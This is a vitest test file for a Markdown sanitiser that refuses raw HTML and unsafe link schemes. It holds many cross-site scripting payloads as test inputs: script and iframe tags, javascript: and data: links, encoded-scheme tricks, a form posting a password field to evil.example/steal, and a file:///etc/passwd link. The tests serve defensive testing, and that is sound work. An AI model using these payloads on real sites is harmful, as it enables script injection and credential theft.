import type { Root } from 'hast';
import { parse } from 'node-html-parser';
import { describe, expect, it } from 'vitest';
import { splitFrontMatter } from '../../src/collections/front-matter.ts';
import { bodyFirstLine, refusedMarkdown, renderMarkdown, type Refused } from '../../src/markdown/index.ts';
import { guardUrls } from '../../src/markdown/url-guard.ts';
import { injectedInFragment } from '../support/injected-markup.ts';

const LINK_RULE = '(only https, http, mailto and paths on this site)';
const IMAGE_RULE = '(only https, http and paths on this site)';
const tag = (name: string, line: number): Refused => ({ line, what: `raw HTML <${name}> is not published` });
const link = (url: string, line: number): Refused => ({ line, what: `link to ${url} is not published ${LINK_RULE}` });
const image = (url: string, line: number): Refused => ({ line, what: `image ${url} is not published ${IMAGE_RULE}` });

/** Markup without the line breaks between elements, which carry no meaning here. */
const squash = (html: string) => html.replace(/>\n+</g, '><').trim();
/** What a reader sees, whitespace collapsed. */
const textOf = (html: string) => parse(html).textContent.replace(/\s+/g, ' ').trim();

interface Hostile {
  name: string;
  markdown: string;
  refused: Refused[];
  /** The whole body as HTML, when it is short enough to state. */
  html?: string;
  /** What is left to read. */
  text?: string;
}

// 1x1 image data, cut where the message cuts it (60 characters).
const pixelHead = `data:image/png;base64,${'A'.repeat(38)}`;
const pixel = `${pixelHead}${'B'.repeat(40)}`;

const hostile: Hostile[] = [
  { name: 'script element', markdown: 'Intro\n\n<script>alert(1)</script>\n\nAfter', refused: [tag('script', 3)], html: '<p>Intro</p><p>After</p>' },
  { name: 'iframe', markdown: 'Watch this:\n\n<iframe src="https://evil.example"></iframe>', refused: [tag('iframe', 3)], html: '<p>Watch this:</p>' },
  { name: 'object', markdown: 'Before\n\n<object data="https://evil.example/x.swf"></object>', refused: [tag('object', 3)], html: '<p>Before</p>' },
  { name: 'embed inside a sentence', markdown: 'Play: <embed src="javascript:alert(1)"> now', refused: [tag('embed', 1)], text: 'Play: now' },
  {
    name: 'form posting elsewhere, over several lines',
    markdown: 'Text\n\n<form action="https://evil.example/steal" method="post">\n<input name="password">\n<button>Go</button>\n</form>',
    refused: [{ line: 3, what: 'raw HTML <form> is not published, nor the text in its HTML block' }, tag('input', 4), tag('button', 5)],
    html: '<p>Text</p>',
  },
  { name: 'meta refresh', markdown: '<meta http-equiv="refresh" content="0;url=https://evil.example">', refused: [tag('meta', 1)], html: '' },
  { name: 'base', markdown: 'Hello\n<base href="https://evil.example/">', refused: [tag('base', 2)], text: 'Hello' },
  { name: 'link rel=import', markdown: '<link rel="import" href="https://evil.example/x.html">\n\nText', refused: [tag('link', 1)], html: '<p>Text</p>' },
  { name: 'style element', markdown: 'Text\n\n<style>body { display: none }</style>', refused: [tag('style', 3)], html: '<p>Text</p>' },
  { name: 'style attribute', markdown: 'Some <span style="position:fixed;inset:0">red</span> text', refused: [tag('span', 1)], html: '<p>Some red text</p>' },
  {
    name: 'inline svg with a javascript: link',
    markdown: 'Click <svg><a xlink:href="javascript:alert(1)"><text x="0" y="15">here</text></a></svg> now',
    refused: [tag('svg', 1), tag('a', 1), tag('text', 1)],
    html: '<p>Click here now</p>',
  },
  {
    name: 'svg on its own line',
    markdown: 'First\n\n<svg xmlns="http://www.w3.org/2000/svg"><a href="javascript:alert(1)"><circle r="40"/></a></svg>',
    refused: [tag('svg', 3), tag('a', 3), tag('circle', 3)],
    html: '<p>First</p>',
  },
  {
    name: 'math with xlink:href',
    markdown: '<math><mi xlink:href="javascript:alert(1)">click</mi></math>',
    refused: [tag('math', 1), tag('mi', 1)],
    html: '<p>click</p>',
  },
  { name: 'img onerror', markdown: 'Look <img src=x onerror="alert(1)"> here', refused: [tag('img', 1)], text: 'Look here' },
  {
    name: 'div onclick',
    markdown: 'Intro\n\n<div onclick="alert(1)">Click me</div>',
    refused: [{ line: 3, what: 'raw HTML <div> is not published, nor the text in its HTML block' }],
    html: '<p>Intro</p>',
  },
  { name: 'raw <a> to javascript:', markdown: 'Go <a href="javascript:alert(1)">home</a> now', refused: [tag('a', 1)], html: '<p>Go home now</p>' },
  { name: 'javascript: link', markdown: '[click](javascript:alert(1))', refused: [link('"javascript:alert(1)"', 1)], html: '<p>click</p>' },
  { name: 'JaVaScRiPt: link', markdown: 'Line\n[click](JaVaScRiPt:alert(1))', refused: [link('"JaVaScRiPt:alert(1)"', 2)], html: '<p>Line\nclick</p>' },
  { name: 'vbscript: link', markdown: '[click](vbscript:msgbox(1))', refused: [link('"vbscript:msgbox(1)"', 1)], html: '<p>click</p>' },
  {
    name: 'data: link',
    markdown: '[open](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)',
    refused: [link('"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=="', 1)],
    html: '<p>open</p>',
  },
  { name: 'data: image, long address cut short', markdown: `Text\n\n![pixel](${pixel})`, refused: [image(`"${pixelHead}…"`, 3)], html: '<p>Text</p>' },
  { name: 'javascript: image', markdown: 'A ![x](javascript:alert(1)) B', refused: [image('"javascript:alert(1)"', 1)], html: '<p>A  B</p>' },
  { name: 'entity-encoded scheme', markdown: '[x](&#106;avascript:alert(1))', refused: [link('"javascript:alert(1)"', 1)], html: '<p>x</p>' },
  { name: 'tab inside the scheme', markdown: '[x](<java\tscript:alert(1)>)', refused: [link('"java\\tscript:alert(1)"', 1)], html: '<p>x</p>' },
  {
    name: 'newline inside the scheme (as an entity)',
    markdown: '[x](java&#10;script:alert(1))',
    refused: [link('"java\\nscript:alert(1)"', 1)],
    html: '<p>x</p>',
  },
  { name: 'form feed before the scheme', markdown: '[x](&#12;javascript:alert(1))', refused: [link('"\\fjavascript:alert(1)"', 1)], html: '<p>x</p>' },
  { name: '"/\\t/evil.example" leaves the site', markdown: '[home](/&#9;/evil.example)', refused: [link('"/\\t/evil.example"', 1)], html: '<p>home</p>' },
  { name: '"/\\\\evil.example" leaves the site', markdown: '[home](/\\evil.example)', refused: [link('"/\\\\evil.example"', 1)], html: '<p>home</p>' },
  { name: '"//evil.example" leaves the site', markdown: '[home](//evil.example/path)', refused: [link('"//evil.example/path"', 1)], html: '<p>home</p>' },
  {
    name: 'other schemes',
    markdown: '[a](ftp://evil.example/) [b](file:///etc/passwd)',
    refused: [link('"ftp://evil.example/"', 1), link('"file:///etc/passwd"', 1)],
    html: '<p>a b</p>',
  },
  {
    name: 'comment hiding a script',
    markdown: 'Text\n\n<!-- <script>alert(1)</script> -->\n\nMore',
    refused: [{ line: 3, what: 'HTML comment is not published' }],
    html: '<p>Text</p><p>More</p>',
  },
  {
    name: 'comment closed at once (<!-->), then a script',
    markdown: '<!--><script>alert(1)</script>-->',
    refused: [{ line: 1, what: 'HTML comment is not published, nor the text in its HTML block' }, tag('script', 1)],
    html: '',
  },
  { name: 'autolink to javascript:', markdown: '<javascript:alert(1)>', refused: [link('"javascript:alert(1)"', 1)], html: '<p>javascript:alert(1)</p>' },
  {
    name: 'reference-style links to javascript:',
    markdown: 'See [the site][evil] and [evil].\n\n[evil]: javascript:alert(1)',
    refused: [
      { line: 1, what: `link to "javascript:alert(1)" (defined on line 3) is not published ${LINK_RULE}` },
      { line: 1, what: `link to "javascript:alert(1)" (defined on line 3) is not published ${LINK_RULE}` },
    ],
    html: '<p>See the site and evil.</p>',
  },
  {
    name: 'reference-style image from data:',
    markdown: 'Logo:\n\n![logo][img]\n\n[img]: data:image/svg+xml;base64,PHN2Zz4=',
    refused: [{ line: 3, what: `image "data:image/svg+xml;base64,PHN2Zz4=" (defined on line 5) is not published ${IMAGE_RULE}` }],
    html: '<p>Logo:</p>',
  },
  {
    name: 'unclosed nested tags',
    markdown: 'Before\n\n<div><p><a href="javascript:alert(1)">x\n\nAfter',
    refused: [{ line: 3, what: 'raw HTML <div> is not published, nor the text in its HTML block' }, tag('p', 3), tag('a', 3)],
    html: '<p>Before</p><p>After</p>',
  },
  // CommonMark runs an unclosed <script> block to the end of the document.
  { name: 'unclosed script', markdown: 'Before\n\n<script>\nalert(1)\n\nAfter', refused: [tag('script', 3)], html: '<p>Before</p>' },
  // "<scr" is not a tag, so it stays as text; the script's content goes with the script.
  { name: 'tag split around a tag', markdown: 'a <scr<script>ipt>alert(1)</script> b', refused: [tag('script', 1)], html: '<p>a &#x3C;scr b</p>' },
  {
    name: 'script inside a sentence, code and all',
    markdown: 'Hello <script>alert(1)</script> world',
    refused: [tag('script', 1)],
    html: '<p>Hello  world</p>',
  },
  { name: 'style inside a sentence', markdown: 'Hello <style>p { display: none }</style> world', refused: [tag('style', 1)], html: '<p>Hello  world</p>' },
  {
    name: 'template with a script inside a sentence',
    markdown: 'One <template><script>alert(1)</script></template> two',
    refused: [tag('template', 1)],
    html: '<p>One  two</p>',
  },
  // An unclosed inline script hides the rest of its paragraph, not the next one.
  {
    name: 'unclosed inline script',
    markdown: 'One <script>alert(1)\nstill code\n\nNext paragraph',
    refused: [tag('script', 1)],
    html: '<p>One </p><p>Next paragraph</p>',
  },
  { name: 'script in a block quote', markdown: '> Quote\n> <script>alert(1)</script>', refused: [tag('script', 2)], text: 'Quote' },
  { name: 'iframe in a list', markdown: '- one\n- <iframe src="https://evil.example"></iframe>', refused: [tag('iframe', 2)], text: 'one' },
  { name: 'uppercase tag', markdown: '<SCRIPT SRC="https://evil.example/x.js"></SCRIPT>', refused: [tag('script', 1)], html: '' },
  // An allowed https link; the quotes are escaped into the address, not into new attributes.
  { name: 'quotes in a link address', markdown: '[x](https://ok.example/"onmouseover="alert(1))', refused: [], text: 'x' },
  // The fence's language becomes a class only when it is a plain word.
  {
    name: 'quotes in a code fence language',
    markdown: '```js"onmouseover="alert(1)\nlet a = 1\n```',
    refused: [],
    html: '<pre><code>let a = 1\n</code></pre>',
  },
];

describe('hostile Markdown', () => {
  it.each(hostile)('$name', ({ markdown, refused, html, text }) => {
    const rendered = renderMarkdown(markdown);
    expect(injectedInFragment(rendered)).toEqual([]);
    if (html !== undefined) expect(squash(rendered)).toBe(html);
    if (text !== undefined) expect(textOf(rendered)).toBe(text);
    expect(refusedMarkdown(markdown)).toEqual(refused);
  });

  it('has at least 25 cases', () => {
    expect(hostile.filter((c) => c.refused.length > 0).length).toBeGreaterThanOrEqual(25);
  });

  it('all of them at once, line by line', () => {
    const body = hostile.map((c) => c.markdown).join('\n\n');
    expect(injectedInFragment(renderMarkdown(body))).toEqual([]);
  });
});

describe('line numbers', () => {
  it('count from the body, or from firstLine', () => {
    const body = 'Text\n\n<iframe src="https://evil.example"></iframe>\n\n[x](javascript:alert(1))';
    expect(refusedMarkdown(body)).toEqual([tag('iframe', 3), link('"javascript:alert(1)"', 5)]);
    expect(refusedMarkdown(body, { firstLine: 8 })).toEqual([tag('iframe', 10), link('"javascript:alert(1)"', 12)]);
  });

  it('firstLine counts for the definition a reference names too', () => {
    const body = 'Intro\n\n[x][evil]\n\n[evil]: javascript:alert(1)';
    expect(refusedMarkdown(body, { firstLine: 7 })).toEqual([
      { line: 9, what: `link to "javascript:alert(1)" (defined on line 11) is not published ${LINK_RULE}` },
    ]);
  });

  it('bodyFirstLine gives the file line below the front matter', () => {
    // Lines 1-4 are front matter; the body starts on line 5 and its iframe is on line 7.
    const file = '---\ntitle: T\ndate: 2020-01-01\n---\nIntro\n\n<iframe src="https://evil.example"></iframe>\n';
    const { body } = splitFrontMatter(file)!;
    expect(bodyFirstLine(file, body)).toBe(5);
    expect(refusedMarkdown(body, { firstLine: bodyFirstLine(file, body) })).toEqual([tag('iframe', 7)]);
    const crlf = file.replaceAll('\n', '\r\n');
    const crlfBody = splitFrontMatter(crlf)!.body;
    expect(refusedMarkdown(crlfBody, { firstLine: bodyFirstLine(crlf, crlfBody) })).toEqual([tag('iframe', 7)]);
  });

  it('hold with Windows line endings', () => {
    expect(refusedMarkdown('a\r\n\r\nb\r\n\r\n<script>x</script>')).toEqual([tag('script', 5)]);
  });

  it('come in document order', () => {
    expect(refusedMarkdown('[a](javascript:a) <b>x</b>\n\n<!-- c -->')).toEqual([
      link('"javascript:a"', 1),
      tag('b', 1),
      { line: 3, what: 'HTML comment is not published' },
    ]);
  });
});

describe('headings', () => {
  const levels = (html: string) =>
    parse(html)
      .querySelectorAll('h1, h2, h3, h4, h5, h6')
      .map((h) => `${h.rawTagName} ${h.textContent}`);

  it('the highest becomes h2: the page title is the h1', () => {
    expect(levels(renderMarkdown('# Title\n\n## Sub\n\n### Deeper'))).toEqual(['h2 Title', 'h3 Sub', 'h4 Deeper']);
  });
  it('a body that starts lower moves up', () => {
    expect(levels(renderMarkdown('### Only\n\n#### Below'))).toEqual(['h2 Only', 'h3 Below']);
  });
  it('a body already at h2 stays', () => {
    expect(levels(renderMarkdown('## Two\n\n### Three'))).toEqual(['h2 Two', 'h3 Three']);
  });
  it('levels past 6 stay at 6', () => {
    expect(levels(renderMarkdown('# A\n\n###### F'))).toEqual(['h2 A', 'h6 F']);
  });
  it('setext headings move too', () => {
    expect(levels(renderMarkdown('Title\n=====\n\nSub\n---'))).toEqual(['h2 Title', 'h3 Sub']);
  });
  it('are not refused', () => {
    expect(refusedMarkdown('# Title')).toEqual([]);
  });
});

describe('benign Markdown survives', () => {
  it('emphasis, lists, quotes, code, tables and links', () => {
    const markdown = [
      'Some *emphasis*, **strong**, ~~gone~~ and `<code>`.',
      '',
      '3. three',
      '4. four',
      '',
      '- a',
      '- b',
      '',
      '> quoted',
      '',
      '```js',
      "const a = '<b>';",
      '```',
      '',
      '| Goal | Plans | Note |',
      '| :--- | ----: | :--: |',
      '| CX | 4 | ok |',
      '',
      '[Performance.gov](https://www.performance.gov/), [the CX goal](/CAP/cx/), [plans](../CAP/action-plans/),',
      '[top](#top), [write to us](mailto:cap@omb.eop.gov), [old](HTTP://example.gov/a), http://example.gov/legacy and www.example.gov.',
      '',
      '![Goal icon](/assets/img/cx.png "Customer experience") ![Remote](https://www.performance.gov/img/logo.png)',
      '',
      '---',
    ].join('\n');
    const expected = [
      '<p>Some <em>emphasis</em>, <strong>strong</strong>, <del>gone</del> and <code>&#x3C;code></code>.</p>',
      '<ol start="3"><li>three</li><li>four</li></ol>',
      '<ul><li>a</li><li>b</li></ul>',
      '<blockquote><p>quoted</p></blockquote>',
      '<pre><code class="language-js">const a = \'&#x3C;b>\';\n</code></pre>',
      '<table><thead><tr><th class="cap-align-left">Goal</th><th class="cap-align-right">Plans</th><th class="cap-align-center">Note</th></tr></thead>',
      '<tbody><tr><td class="cap-align-left">CX</td><td class="cap-align-right">4</td><td class="cap-align-center">ok</td></tr></tbody></table>',
      '<p><a href="https://www.performance.gov/">Performance.gov</a>, <a href="/CAP/cx/">the CX goal</a>, <a href="../CAP/action-plans/">plans</a>,\n',
      '<a href="#top">top</a>, <a href="mailto:cap@omb.eop.gov">write to us</a>, <a href="http://example.gov/a">old</a>, ',
      '<a href="http://example.gov/legacy">http://example.gov/legacy</a> and <a href="http://www.example.gov/">www.example.gov</a>.</p>',
      '<p><img src="/assets/img/cx.png" alt="Goal icon" title="Customer experience"> <img src="https://www.performance.gov/img/logo.png" alt="Remote"></p>',
      '<hr>',
    ].join('');
    const rendered = renderMarkdown(markdown);
    expect(squash(rendered)).toBe(expected);
    expect(injectedInFragment(rendered)).toEqual([]);
    expect(refusedMarkdown(markdown)).toEqual([]);
  });

  it('task lists: disabled checkboxes', () => {
    const inputs = parse(renderMarkdown('- [x] done\n- [ ] to do')).querySelectorAll('input');
    expect(inputs.map((i) => [i.getAttribute('type'), i.hasAttribute('disabled'), i.hasAttribute('checked')])).toEqual([
      ['checkbox', true, true],
      ['checkbox', true, false],
    ]);
  });

  it('footnotes: ids carry the clobber prefix and their links follow', () => {
    const root = parse(renderMarkdown('A claim[^1] and [see the note](#fn-1).\n\n[^1]: The source.'));
    const ids = root.querySelectorAll('[id]').map((e) => e.id);
    expect(ids).toEqual(['user-content-fnref-1', 'user-content-footnote-label', 'user-content-fn-1']);
    const hrefs = root.querySelectorAll('a').map((a) => a.getAttribute('href'));
    expect(hrefs).toEqual(['#user-content-fn-1', '#user-content-fn-1', '#user-content-fnref-1']);
    expect(root.querySelector('sup a')?.getAttribute('aria-describedby')).toBe('user-content-footnote-label');
  });

  it('an empty body is empty', () => {
    expect(renderMarkdown('')).toBe('');
    expect(refusedMarkdown('')).toEqual([]);
  });
});

describe('the last check on the HTML', () => {
  const a = (href: string, text: string) => ({
    type: 'element' as const,
    tagName: 'a',
    properties: { href },
    children: [{ type: 'text' as const, value: text }],
  });
  const img = (src: string) => ({ type: 'element' as const, tagName: 'img', properties: { src, alt: '' }, children: [] });

  it('unwraps links and drops images that leave the allowed addresses, whatever came before', () => {
    const tree: Root = {
      type: 'root',
      children: [
        {
          type: 'element',
          tagName: 'p',
          properties: {},
          children: [
            a('javascript:alert(1)', 'one'),
            a('/\t/evil.example', 'two'),
            a('/\\evil.example', 'three'),
            img('data:image/png;base64,AA'),
            a('/CAP/cx/', 'four'),
            img('/x.png'),
          ],
        },
      ],
    };
    guardUrls(tree);
    expect(tree.children[0]).toEqual({
      type: 'element',
      tagName: 'p',
      properties: {},
      children: [{ type: 'text', value: 'one' }, { type: 'text', value: 'two' }, { type: 'text', value: 'three' }, a('/CAP/cx/', 'four'), img('/x.png')],
    });
  });
});
